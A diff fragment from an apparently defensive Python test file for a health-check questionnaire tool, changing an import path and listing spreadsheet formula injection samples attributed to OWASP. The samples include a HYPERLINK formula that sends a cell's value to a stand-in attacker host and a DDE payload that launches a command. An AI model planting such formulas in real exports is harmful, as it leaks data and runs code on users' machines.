@@ -24,7 +24,7 @@ from swhc_desktop.questionnaires.edits import ChangeOption, ChangeQuestion, appl
 from swhc_desktop.domain.records import AnswerValue, BatchKind, NewBatch, NewResponse
 from swhc_desktop.storage import HealthCheckFile
 
-from .import_support import new_file, run_cli
+from .support.import_support import new_file, run_cli
 
 # What people might type that a spreadsheet would run (OWASP's CSV injection examples, and their like).
 PLANTED = ('=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")', "+cmd|' /C calc'!A0",
